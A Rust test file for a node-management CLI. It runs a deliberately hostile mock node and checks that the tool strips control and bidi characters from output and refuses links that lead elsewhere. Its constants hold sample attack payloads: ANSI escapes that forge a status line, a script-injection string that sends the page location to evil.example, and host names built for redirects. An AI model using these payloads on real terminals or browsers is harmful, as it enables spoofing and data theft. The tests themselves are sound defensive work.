//! A node whose answers attack its users' terminals and browsers.

use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use alknet_call::{
    CallBody, CallError, CallHandler, Ctx, Dispatcher, ErrorCode, HandlerKind, OperationSpec,
    Registration, Registry,
};
use alknet_core::{
    AlpnSpec, AuthContext, AuthNeed, BoxFuture, Connection, HandlerError, HandlerRegistry,
    Identities, IdentityEntries, PeerKey, ProtocolHandler, SystemClock,
};
use alknet_endpoint::{EndpointServer, ServerOptions};
use alknet_hub::{EnrolToken, JoinCode};
use alknet_tests::{CliOutput, CliRunner, binary, run_with_input};
use alknet_tls::NodeKey;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::block_in_place;

use super::dialling_verbs::left_out;
use super::lying_files::{LINES, with_files};

/// Clears the screen, sets a title, forges a line, erases one, reverses the text direction, and clears the screen
/// again with a single 8-bit character.
pub(super) const ACTS: &str =
    "x\u{1b}[2J\u{1b}]0;title\u{7}\r\nhealth     ok\u{8}\u{202e}\u{9b}2J\u{7f}";

/// The beginning of its second line, like a line of `alknet status`.
const FORGED: &str = "health     ok";

/// Texts that lead a browser elsewhere, or make it run a script in a page of the user's computer.
pub(crate) const PATHS: [&str; 5] = [
    "@evil.example/status/enter/0123456789abcdef0123456789abcdef0123456789a",
    ".evil.example/",
    "/status/enter/\"><script>fetch('//evil.example/'+document.location)</script>",
    "/status/enter/0123456789abcdef\u{1b}]8;;https://evil.example\u{7}",
    "",
];

/// Links that a browser may follow, at the dialled host: to the status page, and one that does something there.
pub(crate) const TICKET: &str = "0123456789abcdefABCDEF_-0123456789abcdefABC";
pub(crate) const ENTERS: &str = "/status/enter/";
const ACTS_BY_LINK: &str = "/status/act/";

/// Names that lead a browser elsewhere, or make it run a script, if they become the host of a link.
pub(crate) const NAMES: [&str; 8] = [
    "evil.example",
    "evil.example/\"><script>alert(1)</script>",
    "evil.example/x?",
    "evil.example#",
    "localhost@evil.example",
    "localhost:443@evil.example",
    "localhost.evil.example",
    ACTS,
];

/// A protocol in which each request and each answer is a 32-bit length and JSON.
struct ScriptedProtocol {
    alpns: [AlpnSpec; 1],
    /// The answers, one after the other. The last one repeats.
    answers: Vec<Value>,
    requests: AtomicUsize,
}

impl ScriptedProtocol {
    fn to(alpn: &'static [u8], answers: Vec<Value>) -> Arc<Self> {
        Arc::new(Self {
            alpns: [AlpnSpec {
                auth: AuthNeed::Open,
                ..AlpnSpec::new(alpn)
            }],
            answers,
            requests: AtomicUsize::new(0),
        })
    }

    async fn answer(&self, connection: &Connection) -> std::io::Result<()> {
        let (mut send, mut recv) = connection.accept_bi().await?;
        let len = recv.read_u32().await?;
        recv.read_exact(&mut vec![0; len as usize]).await?;
        let n = self.requests.fetch_add(1, Ordering::SeqCst);
        let answer = self.answers[n.min(self.answers.len() - 1)].to_string();
        send.write_u32(answer.len() as u32).await?;
        send.write_all(answer.as_bytes()).await?;
        send.flush().await?;
        send.finish()?;
        connection.closed().await;
        Ok(())
    }
}

impl ProtocolHandler for ScriptedProtocol {
    fn alpns(&self) -> &[AlpnSpec] {
        &self.alpns
    }

    fn handle(
        self: Arc<Self>,
        connection: Connection,
        _: AuthContext,
    ) -> BoxFuture<'static, Result<(), HandlerError>> {
        Box::pin(async move {
            let answered = self.answer(&connection).await;
            answered.map_err(|_| HandlerError::Closed)
        })
    }
}

/// Changes the connection's key.
fn rotates(hub: PeerKey) -> Registration {
    let spec = OperationSpec::query("peer/rotate-key", ACTS);
    let handler = HandlerKind::once(move |input: CallBody, ctx: Ctx| {
        let answer = match input.value()["new_key"].is_string() {
            true => json!({ "peer_id": ACTS, "old_key_ends": ACTS }),
            false => json!({ "peer_id": "edge", "hub": hub, "old_key": ctx.conn().key,
                             "time": 2_000_000_000 }),
        };
        std::future::ready(Ok::<_, CallError>(answer))
    });
    Registration::new(spec, handler)
}

/// Lists one proposal and ends. For three states the list never ends, each in another way.
fn lists(proposal: Value) -> Registration {
    /// Rows of a page.
    const ROWS: u64 = 256;
    let spec = OperationSpec::query("ops/proposals", ACTS);
    let handler = HandlerKind::once(move |input: CallBody, _| {
        let cursor = input.value()["cursor"].as_u64().unwrap_or_default();
        let row = |n: u64| json!({ "id": format!("{n:064x}"), "state": "title", "author": "a" });
        let rows: Vec<_> = match input.value()["state"].as_str() {
            Some("promoted") => (cursor * ROWS..(cursor + 1) * ROWS).map(row).collect(),
            Some("rejected") => vec![row(0)],
            Some("retired") => Vec::new(),
            _ => {
                let all = json!({ "proposals": [proposal] });
                return std::future::ready(Ok::<_, CallError>(all));
            }
        };
        let page = json!({ "proposals": rows, "next": cursor + 1 });
        std::future::ready(Ok::<_, CallError>(page))
    });
    Registration::new(spec, handler)
}

/// Says what a script said, and to those that ask for declarations of operations that one of them is hostile.
fn runs(script: Value) -> Registration {
    let spec = OperationSpec::query("runtime/eval", ACTS);
    let handler = HandlerKind::once(move |input: CallBody, _| {
        let mut said = script.clone();
        if input.value()["source"] == "export default ops.list()" {
            said["value"] = json!([{
                "path": ACTS, "kind": "query", "input": { "title": ACTS }, "output": { "const": ACTS },
                "description": ACTS,
            }]);
        }
        std::future::ready(Ok::<_, CallError>(said))
    });
    Registration::new(spec, handler)
}

struct LyingNode {
    server: EndpointServer,
    key: NodeKey,
}

impl LyingNode {
    /// Its link has this path, and its names are hostile.
    fn start(path: &str) -> Self {
        let says = |name: &str, said: Value| {
            let spec = OperationSpec::query(name, ACTS);
            let handler =
                HandlerKind::once(move |_, _| std::future::ready(Ok::<_, CallError>(said.clone())));
            Registration::new(spec, handler)
        };
        let refuses = HandlerKind::once(|_, _| async {
            Err::<Value, _>(CallError::new(ErrorCode::Conflict, ACTS).with_details(json!([ACTS])))
        });
        let finds_mistakes = HandlerKind::once(|_, _| async {
            let error = CallError::new(ErrorCode::InvalidInput, ACTS);
            Err::<Value, _>(error.with_details(json!({ "errors": [ACTS] })))
        });
        let follows = HandlerKind::stream(|_, _| {
            let record = json!({ "time": ACTS, "level": ACTS, "target": ACTS, "message": ACTS });
            futures_util::stream::iter([Ok::<_, CallError>(record)])
        });
        let problem = json!({ "code": ACTS, "text": ACTS, "hint": ACTS });
        let disk = json!({
            "name": ACTS, "kind": ACTS, "model": ACTS, "serial_end": ACTS, "health": ACTS, "failing": [ACTS],
        });
        let slot = json!({ "slot": ACTS, "version": ACTS, "result": ACTS, "detail": ACTS });
        let storage = json!({ "disks": [disk], "slots": [slot] });
        let mut checked = storage.clone();
        checked["stored"] = json!({ "running": ACTS, "files": ACTS, "damaged_files": ACTS });
        checked["problems"] = json!([problem]);
        let info = json!({
            "storage": storage, "name": ACTS, "identity": ACTS, "version": ACTS, "kernel": ACTS, "addresses": [ACTS],
            "listen": { "alpns": [ACTS], "port": 443 }, "data": { "mode": ACTS }, "clock": ACTS,
            "uptime_ms": 1, "problems": [problem],
        });
        let peers = json!({ "peers": [{
            "peer_id": ACTS, "name": ACTS, "key": ACTS, "kind": ACTS, "source": ACTS,
            "display_name": ACTS,
        }] });
        let row = json!({
            "peer_id": ACTS, "kind": ACTS, "source": ACTS, "display_name": ACTS, "keys": [ACTS],
            "key_ends": { ACTS: ACTS }, "scopes": [ACTS], "expires": ACTS, "closed": [ACTS],
            "known": true,
        });
        let shown = json!({
            "generation": ACTS, "source": ACTS, "restart_required": [ACTS], "withheld": [ACTS],
            "document": ACTS, "config": { ACTS: ACTS },
        });
        let script = json!({
            "value": { "said": ACTS }, "shown": ACTS, "console": [{ "level": "log", "text": ACTS }],
        });
        let link = json!({ "path": path, "ticket": "", "expires_in": 60, "names": NAMES });
        let token = json!({
            "key_id": ACTS, "holder": ACTS, "source": ACTS, "scopes": [ACTS], "expires": ACTS,
            "last_used": ACTS, "created_by": ACTS, "note": ACTS,
        });
        let of_hub = json!({
            "peers": [{ "name": ACTS, "state": ACTS, "peer_id": ACTS, "labels": { ACTS: ACTS } }],
            "waiting": [{ "name": ACTS, "addr": ACTS, "fingerprint": ACTS }],
            "invitations": [{ "key_id": ACTS, "left": 1, "role": ACTS, "expires": ACTS }],
        });
        let share = json!({
            "id": ACTS, "name": ACTS, "state": ACTS, "released": ACTS, "releases": 1, "from": [ACTS],
        });
        let file = json!({
            "name": ACTS, "kind": ACTS, "files": 1, "bytes": ACTS, "names": [ACTS], "expires": ACTS,
            "used_by": [ACTS], "counts": ACTS, "warnings": [ACTS], "upload": ACTS,
            "entries": [{ "path": ACTS, "bytes": 1 }],
        });
        let peer = json!({ "peer_id": ACTS, "name": format!("{ACTS}2"), "closed": [ACTS] });
        let invitation = json!({ "join": ACTS, "role": ACTS, "expires": ACTS, "count": 1 });
        let made = json!({ "token": ACTS, "key_id": ACTS, "expires": ACTS, "scopes": [ACTS],
                           "warnings": [{ "id": ACTS, "what": ACTS }] });
        let kept = json!({ "id": ACTS, "name": ACTS, "path": ACTS });
        let proposal = json!({ "id": ACTS, "state": ACTS, "author": ACTS, "name": ACTS });
        let reviewed = json!({
            "proposal": proposal, ACTS: ACTS, "grants": [{ "text": ACTS }],
            "report": { "cases": [{ "name": ACTS, "passed": true, "fuel": 1 }] },
            "versions": [{ "version": 1, "id": ACTS, "generation": 1 }],
            "record": [{ "who": ACTS, "did": ACTS, "note": ACTS }], "difference": ACTS,
        });
        let plan = json!({ "from": ACTS, "to": ACTS, "step": "same", "bytes": 1, "changes": ACTS, "floor": ACTS,
                           "needs_person": ACTS });
        let last = json!({ "version": ACTS, "outcome": "failed", "stage": ACTS, "problems": [ACTS], "reason": ACTS });
        let update = json!({
            "state": "staged", "version": ACTS, "slot": ACTS, "other_version": ACTS, "keys": ACTS, "floor": ACTS,
            "last": last, "plan": plan, "scheduled": ACTS, "gate": [ACTS],
            "not_started": { "version": ACTS, "at": ACTS, "by": ACTS, "reason": ACTS },
            "session": { "offset": 1, "bytes": 2, "source": ACTS },
            "auto": { "mode": ACTS, "next": ACTS, "at": ACTS, "error": ACTS },
        });
        let tried =
            json!({ "time": ACTS, "event": ACTS, "version": ACTS, "by": ACTS, "reason": ACTS });
        let key = NodeKey::generate().expect("a key");
        let registry = with_files(Registry::builder())
            .with(says("update/status", update))
            .with(says("update/log", json!({ "records": [tried] })))
            .with(says("update/confirm", json!({ "confirmed": ACTS })))
            .with(says("update/rollback", json!({ "accepted": ACTS })))
            .with(says("update/cancel", json!({ "cancelled": ACTS })))
            .with(rotates(key.public()))
            .with(says("hub/invite", invitation))
            .with(says("hub/peers/approve", peer.clone()))
            .with(says("hub/peers/label", peer.clone()))
            .with(says("hub/peers/remove", peer))
            .with(says("token/make", made.clone()))
            .with(says("token/revoke", made))
            .with(says("ops/propose", reviewed.clone()))
            .with(says("ops/promote", reviewed.clone()))
            .with(says("ops/rollback", reviewed.clone()))
            .with(lists(proposal))
            .with(says("escrow/approve", kept.clone()))
            .with(says("escrow/change", kept.clone()))
            .with(says("node/poweroff", kept.clone()))
            .with(says("node/reboot", kept.clone()))
            .with(says("escrow/revoke", kept.clone()))
            .with(says("vault/lock", json!({ "state": ACTS, "hard": ACTS })))
            .with(says("token/list", json!({ "tokens": [token] })))
            .with(says("hub/peers", of_hub))
            .with(says("hub/whoami", json!({ "peer_id": null })))
            .with(says("escrow/list", json!({ "shares": [share] })))
            .with(Registration::new(
                OperationSpec::query("config/apply", ACTS),
                finds_mistakes,
            ))
            .with(says(
                "config/list-files",
                json!({ "files": [file.clone()], "bytes_max": ACTS }),
            ))
            .with(says("config/remove-file", file.clone()))
            .with(says("config/store-file", file))
            .with(says("config/show", shown))
            .with(says("peer/add", row.clone()))
            .with(says("peer/set", row.clone()))
            .with(says("peer/remove", row))
            .with(says("tensor/remove", json!({ "id": ACTS, "freed": ACTS })))
            .with(says("tensor/list", json!({ "files": [kept] })))
            .with(says("node/info", info))
            .with(says("node/check-storage", checked))
            .with(says("node/page-ticket", link))
            .with(says("peer/list", peers))
            .with(runs(script))
            .with(says(
                "vault/status",
                json!({ "state": ACTS, "slots": [ACTS], "credentials": [{ "name": ACTS }] }),
            ))
            .with(Registration::new(
                OperationSpec::query("evil/refused", ACTS),
                refuses,
            ))
            .with(Registration::new(
                OperationSpec::subscription("node/log", ACTS),
                follows,
            ))
            .build()
            .expect("every rule is kept");
        let handler = CallHandler::new(Arc::new(Dispatcher::new(registry)));
        let mut handlers = HandlerRegistry::new();
        handlers.register(Arc::new(handler)).expect("the only one");
        let refused = json!({ "error": { "code": ACTS, "message": ACTS, "retryable": false } });
        let hub = json!({ "key": key.public(), "names": [ACTS] });
        let taken = json!({ "peer_id": "edge", "name": ACTS, "hub": hub });
        // As text and as JSON.
        let answers = vec![refused.clone(), refused, taken];
        let enrols = ScriptedProtocol::to(b"alknet/enroll", answers);
        handlers.register(enrols).expect("another");
        let stores = json!({ "ok": false, "code": ACTS, "msg": ACTS });
        let stores = ScriptedProtocol::to(b"alknet/tensor", vec![stores]);
        handlers.register(stores).expect("a third");
        let clock = Arc::new(SystemClock { built_s: 0 });
        let known = Arc::new(Identities::new(IdentityEntries::default(), clock));
        let options = ServerOptions {
            port: 0,
            ..ServerOptions::default()
        };
        let server = EndpointServer::bind(options, &key, handlers, known).expect("a free port");
        Self { server, key }
    }

    fn target(&self) -> String {
        format!(
            "{}@{}:{}",
            self.key.public(),
            Ipv4Addr::LOCALHOST,
            self.server.port()
        )
    }
}

impl LyingNode {
    /// The address to reach it as a hub.
    fn join(&self) -> String {
        let PeerKey::Ed25519(hub) = self.key.public() else {
            panic!("the key of a node is of this kind");
        };
        let address = format!("{}:{}", Ipv4Addr::LOCALHOST, self.server.port());
        let code = JoinCode {
            addresses: vec![address.parse().expect("an address")],
            hub,
            token: EnrolToken::generate().expect("the system has entropy"),
            expires: 4_000_000_000,
            role: "worker".parse().expect("a role"),
        };
        code.encode().expect("it is short")
    }
}

/// Runs a command beside the node in this process.
pub(crate) async fn run(cli: &CliRunner, mut arguments: Vec<String>) -> CliOutput {
    arguments.push("--state".to_owned());
    arguments.push(cli.state().display().to_string());
    run_alone(arguments).await
}

/// The same for verbs that use no node.
async fn run_alone(arguments: Vec<String>) -> CliOutput {
    let run = move || {
        let mut command = Command::new(binary());
        command.args(arguments);
        // The folder that scripts are read from.
        run_with_input(command, "1\n")
    };
    tokio::task::spawn_blocking(run).await.expect("it runs")
}

fn has_control_or_bidi(text: &str) -> bool {
    let turns = |c: char| {
        let marks = ['\u{61c}', '\u{200e}', '\u{200f}'];
        marks.contains(&c) || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    text.chars()
        .any(|c| (c.is_control() && c != '\n') || turns(c))
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_a_node_says_acts_on_a_terminal() {
    let folder = tempfile::tempdir().expect("a folder");
    let node = LyingNode::start(PATHS[0]);
    let (target, join) = (node.target(), node.join());
    let at = |name: &str| folder.path().join(name).display().to_string();
    let (document, batch, draft) = (at("document.toml"), at("batch"), proposal(folder.path()));
    std::fs::write(&document, "").expect("the folder is ours");
    let calls = ["node/info", "evil/refused"].map(|name| format!("{{\"operation\":\"{name}\"}}\n"));
    std::fs::write(&batch, calls.concat()).expect("the folder is ours");
    let id = "3f".repeat(32);
    let (output, tensors) = (at("out.mt"), at("in.safetensors"));
    std::fs::write(&tensors, container("ours", "w")).expect("the folder is ours");
    let mut tried = Vec::new();
    for (n, (arguments, says_much)) in [
        (&["status", "@"][..], true),
        (&["call", "@", "node/info"], true),
        (&["call", "@", "node/log"], true),
        (&["call", "@", "node/info", "--also", "@"], true),
        (&["call", "@", "evil/refused"], false),
        // It forwards nothing, and is asked for its peers.
        (&["status", "@", "--peer", "kitchen"], true),
        (&["logs", "@"], true),
        (&["ops", "@"], true),
        (&["ops", "@", "node/info"], true),
        (&["peers", "@"], true),
        (&["js", "run", "@", "-"], true),
        (&["js", "repl", "@"], true),
        (&["vault", "status", "@"], true),
        (&["token", "list", "@"], true),
        (&["hub", "peers", "@"], true),
        (&["escrow", "list", "@"], true),
        (&["config", "apply", "@", "?"], true),
        (&["file", "list", "@"], true),
        (&["file", "show", "@", "site/www"], true),
        (&["file", "add", "@", "root/lab", "?"], true),
        (&["config", "show", "@"], true),
        (&["peer", "add", "@", "ada", "--key", "a-key"], true),
        (&["peer", "set", "@", "ada", "--disable"], true),
        (&["peer", "remove", "@", "ada"], true),
        (&["pin", "@", "--peer", "kitchen"], true),
        (&["open", "--print", "@"], false),
        (&["hub", "invite", "@"], true),
        (&["hub", "approve", "@", "a-key"], true),
        (&["hub", "label", "@", "edge", "a=b"], true),
        (&["hub", "remove", "@", "edge"], true),
        (&["token", "make", "@", "--scope", "node:read"], true),
        // The output repeats the arguments.
        (&["token", "revoke", "@", "abcdefgh"], false),
        (&["key", "rotate", "@"], true),
        (&["ops", "propose", "@", "DRAFT", "--as", "ada"], true),
        (&["ops", "proposals", "@"], true),
        (&["ops", "promote", "@", "ID"], true),
        (&["ops", "rollback", "@", "js/a/b"], true),
        (&["escrow", "approve", "@", "share"], true),
        (&["escrow", "change", "@", "share", "--anywhere"], true),
        (&["escrow", "revoke", "@", "share"], true),
        (&["call", "@", "--batch", "BATCH"], true),
        (&["tensor", "pull", "@", "models/bert", "OUTPUT"], true),
        // What was asked for is repeated.
        (&["tensor", "remove", "@", "models/bert"], false),
        (&["file", "remove", "@", "site/www"], false),
        (&["tensor", "stored", "@"], true),
        (&["vault", "lock", "@"], true),
        (&["credential", "list", "@"], true),
        (&["credential", "show", "@", ACTS], true),
        (&["escrow", "show", "@", ACTS], true),
        (&["hub", "show", "@", ACTS], true),
        (&["peer", "show", "@", ACTS], true),
        (&["token", "show", "@", ACTS], true),
        (&["js", "types", "@"], true),
        (&["ops", "list", "@"], true),
        (&["ops", "show", "@", "node/info"], true),
        (&["tensor", "push", "@", "TENSORS", "models/bert"], true),
        (&["poweroff", "@", "--yes"], false),
        (&["reboot", "@", "--yes"], false),
        (&["update", "@", "--stage"], true),
        (&["update", "status", "@"], true),
        (&["update", "log", "@"], true),
        (&["update", "confirm", "@"], false),
        (&["update", "cancel", "@"], false),
        (&["disk", "list", "@"], true),
        (&["disk", "check", "@"], true),
        (&["rollback", "@", "--yes"], true),
        // Refused and accepted answers.
        (&["enroll", "JOIN"], true),
        (&["enroll", "JOIN"], true),
    ]
    .into_iter()
    .chain(LINES)
    .enumerate()
    {
        tried.push(arguments);
        for json in [false, true] {
            // Each with a separate key, because one verb replaces it.
            let cli = CliRunner::new(folder.path().join(format!("{n}-{json}")));
            if arguments[0] == "key" {
                // There must be one to replace.
                block_in_place(|| cli.identity());
            }
            let said = |one: &&str| match *one {
                "BATCH" => batch.clone(),
                "BRANCH" => "docs@draft".to_owned(),
                "DRAFT" => draft.display().to_string(),
                "ID" => id.clone(),
                "JOIN" => join.clone(),
                "OUTPUT" => output.clone(),
                "TENSORS" => tensors.clone(),
                one => one.replace('@', &target).replace('?', &document),
            };
            let mut all: Vec<_> = arguments.iter().map(said).collect();
            if json {
                all.insert(0, "--json".to_owned());
            }
            let answer = run(&cli, all).await;
            let (said, failed) = (&answer.output, &answer.errors);
            assert!(
                !has_control_or_bidi(said) && !has_control_or_bidi(failed),
                "{arguments:?}: {answer:?}"
            );
            // The node got the request, and answered.
            let shown = format!("{said}{failed}");
            assert!(
                shown.contains("title") || !says_much,
                "{arguments:?}: {answer:?}"
            );
            // A script's own words may have several lines.
            let has_lines = arguments[0] == "js";
            let forged = shown.lines().any(|line| line.starts_with(FORGED));
            assert!((has_lines && !json) || !forged, "{arguments:?}: {answer:?}");
        }
    }
    // A verb that comes later has to be tried as well.
    let left_out = block_in_place(|| left_out(&tried));
    assert!(left_out.is_empty(), "{left_out:?}");
}

/// The list has new rows on every page, the same row, or none. The command still ends, and reports that this is not
/// a list.
#[tokio::test(flavor = "multi_thread")]
async fn a_list_of_proposals_without_end_is_ended() {
    /// The most that a node keeps (docs/promotion.md, "Limits").
    const KEPT_MAX: usize = 4096;
    let folder = tempfile::tempdir().expect("a folder");
    let cli = CliRunner::new(folder.path().to_owned());
    let node = LyingNode::start("");
    for (state, rows) in [("promoted", KEPT_MAX), ("rejected", 1), ("retired", 0)] {
        let words = ["--json", "ops", "proposals", "--only", state];
        let mut all: Vec<_> = words.map(str::to_owned).to_vec();
        all.push(node.target());
        let answer = run(&cli, all).await;
        assert_eq!(
            answer.code(),
            "INVALID_OUTPUT",
            "{state}: {}",
            answer.errors
        );
        assert_eq!(answer.output.lines().count(), rows, "{state}");
    }
}

/// A folder that can be proposed.
fn proposal(folder: &Path) -> PathBuf {
    let draft = folder.join("draft");
    let operation = json!({
        "spec": { "name": "one", "kind": "query" }, "entry": "./main.js", "export": "run",
        "tests": [{ "input": 1, "expect": { "output": 1 } }],
    });
    std::fs::create_dir(&draft).expect("the folder is ours");
    std::fs::write(draft.join("operation.json"), operation.to_string()).expect("room");
    std::fs::write(draft.join("main.js"), "export const run = () => 1;").expect("room");
    draft
}

/// A file with one tensor of this name.
fn container(said: &str, name: &str) -> Vec<u8> {
    let tensor = json!({ "dtype": "U8", "shape": [2], "data_offsets": [0, 2] });
    let mut header = json!({ "__metadata__": { "said": said }, name: tensor }).to_string();
    while !header.len().is_multiple_of(8) {
        header.push(' ');
    }
    let mut bytes = (header.len() as u64).to_le_bytes().to_vec();
    bytes.extend(header.as_bytes());
    bytes.extend([7, 8]);
    bytes
}

/// Data fetched from a node may be anything that fits into a container.
#[tokio::test(flavor = "multi_thread")]
async fn nothing_in_a_file_of_tensors_acts_on_a_terminal() {
    let folder = tempfile::tempdir().expect("a folder");
    // No name has a control character, because readers refuse such a file.
    let name = "title\u{202e}\u{2066}\u{200f}\u{2028}";
    let [first, second] = [("first", ACTS), ("second", "title")].map(|(file, said)| {
        let file = folder.path().join(format!("{file}.safetensors"));
        let ending = if said == ACTS { "" } else { said };
        let bytes = container(said, &format!("{name}{ending}"));
        std::fs::write(&file, bytes).expect("the folder is ours");
        file.display().to_string()
    });
    for verb in [
        &["ls", "1"][..],
        &["hash", "1"],
        &["diff", "1", "2"],
        &["verify", "1"],
        &["cat", "1", "title"],
        &["cat", "1", name],
    ] {
        for json in [false, true] {
            let mut all = vec!["tensor".to_owned()];
            all.extend(verb.iter().map(|word| match *word {
                "1" => first.clone(),
                "2" => second.clone(),
                word => word.to_owned(),
            }));
            if json {
                all.insert(0, "--json".to_owned());
            }
            let answer = run_alone(all).await;
            let (said, failed) = (&answer.output, &answer.errors);
            let is_bytes = verb == ["cat", "1", name] && !json;
            assert!(
                is_bytes || !has_control_or_bidi(said),
                "{verb:?}: {answer:?}"
            );
            assert!(!has_control_or_bidi(failed), "{verb:?}: {answer:?}");
            let shows = !is_bytes && verb[0] != "verify";
            assert!(
                !shows || format!("{said}{failed}").contains("title"),
                "{verb:?}: {answer:?}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_link_that_leads_elsewhere_is_not_opened() {
    let folder = tempfile::tempdir().expect("a folder");
    let cli = CliRunner::new(folder.path().to_owned());
    for path in PATHS {
        let node = LyingNode::start(path);
        for more in [&[][..], &["--action", "lock"]] {
            let mut all = vec!["open".to_owned(), "--print".to_owned(), node.target()];
            all.extend(more.iter().map(|one| (*one).to_owned()));
            let answer = run(&cli, all).await;
            assert_ne!(answer.status, 0, "{path:?}: {answer:?}");
            assert!(answer.output.is_empty(), "{path:?}: {answer:?}");
        }
    }
}

/// The path comes from the link. Whatever names the node reports, a browser is led to the dialled host, by its
/// address or by its name.
#[tokio::test(flavor = "multi_thread")]
async fn names_of_a_node_are_no_part_of_a_link() {
    let folder = tempfile::tempdir().expect("a folder");
    let cli = CliRunner::new(folder.path().to_owned());
    for (begins, more) in [(ENTERS, &[][..]), (ACTS_BY_LINK, &["--action", "lock"])] {
        let path = format!("{begins}{TICKET}");
        let node = LyingNode::start(&path);
        let port = node.server.port();
        let by_address = node.target();
        let by_name = by_address.replace(&Ipv4Addr::LOCALHOST.to_string(), "localhost");
        for (target, hosts) in [
            (by_address, &["127.0.0.1"][..]),
            (by_name, &["127.0.0.1", "[::1]", "localhost"]),
        ] {
            let links = hosts
                .iter()
                .map(|host| format!("https://{host}:{port}{path}"));
            let links: Vec<_> = links.collect();
            for json in [false, true] {
                let mut all = vec!["open".to_owned(), "--print".to_owned(), target.clone()];
                all.extend(more.iter().map(|one| (*one).to_owned()));
                if json {
                    all.insert(0, "--json".to_owned());
                }
                let answer = run(&cli, all).await;
                assert_eq!(answer.status, 0, "{target}: {answer:?}");
                let said = match json {
                    true => answer.json()["url"].as_str().unwrap_or_default().to_owned(),
                    false => answer.output.trim_end().to_owned(),
                };
                assert!(links.contains(&said), "{target}: {answer:?}");
                let shown = format!("{}{}", answer.output, answer.errors);
                assert!(!shown.contains("evil"), "{target}: {answer:?}");
            }
        }
    }
}
